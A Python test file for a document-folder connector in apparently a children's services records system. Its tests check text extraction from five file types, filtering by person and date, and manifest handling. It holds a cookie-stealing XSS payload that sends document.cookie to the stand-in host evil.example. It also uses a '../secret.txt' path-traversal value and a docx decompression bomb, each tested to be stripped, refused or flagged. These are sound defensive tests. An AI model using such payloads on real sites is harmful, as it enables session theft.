"""The folder connector over an export holding all five document types, with a look-alike's documents."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest

from rights.search import subject_identity
from rights.sources import registry
from rights.sources.base import Candidate, Identity, SearchTerms, SourceError
from rights.sources.folder import FolderConnector
from tests.factories import make_person
from tests.integration.source_builders import (
    SAME_NAME_OTHER_DOB,
    SIBLING,
    SUBJECT,
    make_docx,
    make_docx_bomb,
    make_eml,
    make_html,
    make_pdf,
    write_export,
    write_sources,
)

SCRIPT = "document.location='https://evil.example/?c='+document.cookie"
PRO = {"name": "Sam Okafor", "role": "professional", "job_title": "Family support worker"}


@pytest.fixture(scope="module")
def export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("early-help")
    return write_export(root, {"EH-1": SUBJECT, "EH-2": SAME_NAME_OTHER_DOB, "EH-3": SIBLING}, [
        ("notes/plan.txt", b"Plan agreed with Amelia: weekly sessions.",
         {"person_id": "EH-1", "date": "2024-01-10", "title": "Support plan", "involved": [PRO]}),
        ("visits/visit.html", make_html("Amelia showed me her drawings.", SCRIPT),
         {"person_id": "EH-1", "date": "2024-02-01", "title": "Home visit",
          "involved": [PRO, {"name": "Dawn Hart", "role": "family_member"}]}),
        ("reviews/review.docx", make_docx("Review meeting.", "Amelia is settled at school."),
         {"person_id": "EH-1", "date": "2024-03-01", "title": "Review"}),
        ("letters/letter.pdf", make_pdf("Letter to Amelia confirming the referral."),
         {"person_id": "EH-1", "date": "2024-04-01", "title": "Referral letter"}),
        ("mail/referral.eml", make_eml("Referral for Amelia", "School referred Amelia for early help."),
         {"person_id": "EH-1", "title": "Referral email"}),
        ("notes/old.txt", b"Before the period.", {"person_id": "EH-1", "date": "2019-06-01", "title": "Old note"}),
        ("notes/other-amelia.txt", b"Note about the other Amelia Hart.",
         {"person_id": "EH-2", "date": "2024-01-11", "title": "Other child's note"}),
        ("notes/jack.txt", b"Jack's note.", {"person_id": "EH-3", "date": "2024-01-12", "title": "Sibling note"}),
    ])


@pytest.fixture(scope="module")
def connector(export: Path, tmp_path_factory: pytest.TempPathFactory) -> FolderConnector:
    sources = write_sources(tmp_path_factory.mktemp("cfg") / "sources.toml", [
        {"name": "early_help_docs", "service": "early_help", "type": "folder", "settings": {"path": str(export)}},
    ])
    [source] = registry.load_file(sources)
    assert isinstance(source.connector, FolderConnector)
    return source.connector


def terms(**period: date) -> SearchTerms:
    return SearchTerms(identity=subject_identity(make_person(**_person(SUBJECT))), **period)


def _person(identity: dict) -> dict:
    return {"given_names": identity["given_names"], "family_name": identity["family_name"],
            "date_of_birth": date.fromisoformat(identity["date_of_birth"]), "addresses": identity.get("addresses", [])}


def subject_candidate(connector: FolderConnector) -> Candidate:
    return next(c for c in connector.find_candidates(terms()) if c.person_id == "EH-1")


def test_candidates_include_lookalikes_for_the_matcher_but_not_strangers(connector: FolderConnector) -> None:
    found = {c.person_id: c for c in connector.find_candidates(terms())}
    # Blocking is generous (the matcher decides about the same-name child), but a sibling born two years
    # apart shares neither a date of birth nor a birth year within one year.
    assert set(found) == {"EH-1", "EH-2"}
    assert found["EH-1"].identity.date_of_birth == date(2012, 5, 17)
    assert found["EH-1"].identity.addresses[0].postcode == "NB1 2CD"
    stranger = SearchTerms(identity=Identity("Noah", "Price", date(2001, 1, 1)))
    assert connector.find_candidates(stranger) == []


def test_text_from_all_five_document_types(connector: FolderConnector) -> None:
    records = {r.record_id: r for r in connector.fetch_records(subject_candidate(connector), terms())}
    assert "weekly sessions" in records["notes/plan.txt"].text
    html = records["visits/visit.html"]
    assert "Amelia showed me her drawings." in html.text and "Home visit" in html.text
    assert "evil.example" not in html.text and "document.cookie" not in html.text and "color" not in html.text
    assert "Amelia is settled at school." in records["reviews/review.docx"].text
    assert "confirming the referral" in records["letters/letter.pdf"].text
    assert records["letters/letter.pdf"].metadata["pages"] == 1
    eml = records["mail/referral.eml"]
    assert "School referred Amelia for early help." in eml.text and "Subject: Referral for Amelia" in eml.text
    assert eml.metadata["attachments"] == ["referral.pdf"]
    assert eml.date == date(2024, 3, 5)  # from the Date header when the manifest gives none
    assert records["reviews/review.docx"].file_bytes[:2] == b"PK"  # the original file travels too
    assert records["letters/letter.pdf"].content_type == "application/pdf"


def test_records_are_only_the_candidates_own_within_the_period(connector: FolderConnector) -> None:
    period = terms(date_from=date(2023, 1, 1), date_to=date(2024, 12, 31))
    records = connector.fetch_records(subject_candidate(connector), period)
    assert {r.person_id for r in records} == {"EH-1"}
    assert "notes/old.txt" not in {r.record_id for r in records}
    assert not any("other Amelia" in (r.text or "") or "Jack" in (r.text or "") for r in records)
    assert len(records) == 5
    visit = next(r for r in records if r.record_id == "visits/visit.html")
    assert {(i.name, i.role, i.job_title) for i in visit.involved} == {
        ("Sam Okafor", "professional", "Family support worker"), ("Dawn Hart", "family_member", None)}


def test_csv_manifest(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("Contact note.", encoding="utf-8")
    (tmp_path / "manifest.csv").write_text(
        "file,person_id,given_names,family_name,date_of_birth,id:LCS,date,title,involved\n"
        "a.txt,77,Amelia,Hart,2012-05-17,LCS-9,2024-01-01,Contact,"
        "Sam Okafor|professional|Social worker;Dawn Hart|family_member\n",
        encoding="utf-8")
    connector = FolderConnector("f", "fostering", path=tmp_path)
    [candidate] = connector.find_candidates(terms())
    assert candidate.identity.other_ids == (("LCS", "LCS-9"),)
    [record] = connector.fetch_records(candidate, terms())
    assert record.text == "Contact note."
    assert [i.job_title for i in record.involved] == ["Social worker", None]


def test_manifest_entry_outside_the_folder_is_refused(tmp_path: Path) -> None:
    write_export(tmp_path / "x", {"P": SUBJECT}, [("a.txt", b"x", {"person_id": "P"})])
    manifest = (tmp_path / "x" / "manifest.json")
    manifest.write_text(manifest.read_text().replace('"a.txt"', '"../secret.txt"'), encoding="utf-8")
    (tmp_path / "secret.txt").write_text("not part of the export")
    connector = FolderConnector("f", "send", path=tmp_path / "x")
    with pytest.raises(SourceError, match="outside the export folder"):
        connector.fetch_records(Candidate("f", "P", Identity("Amelia", "Hart")), terms())


def test_broken_manifest_names_the_entry(tmp_path: Path) -> None:
    (tmp_path / "manifest.json").write_text('{"documents": [{"file": "a.txt"}]}', encoding="utf-8")
    with pytest.raises(SourceError, match="document #1: file and person_id are required"):
        FolderConnector("f", "send", path=tmp_path).find_candidates(terms())


def test_a_document_bomb_in_the_export_is_kept_and_flagged_not_parsed(tmp_path: Path) -> None:
    root = write_export(tmp_path / "export", {"EH-1": SUBJECT}, [
        ("reviews/bomb.docx", make_docx_bomb(), {"person_id": "EH-1", "date": "2024-03-01", "title": "Review"}),
        ("notes/plan.txt", b"Plan agreed with Amelia.", {"person_id": "EH-1", "date": "2024-01-10"}),
    ])
    sources = write_sources(tmp_path / "sources.toml", [
        {"name": "early_help_docs", "service": "early_help", "type": "folder", "settings": {"path": str(root)}},
    ])
    [source] = registry.load_file(sources)
    records = {r.record_id: r for r in source.connector.fetch_records(subject_candidate(source.connector), terms())}
    bomb = records["reviews/bomb.docx"]
    assert bomb.text is None and bomb.file_bytes[:2] == b"PK"  # the original travels, unparsed
    assert "this document could not be read safely: a part is compressed" in bomb.metadata["problem"]
    assert records["notes/plan.txt"].text == "Plan agreed with Amelia."
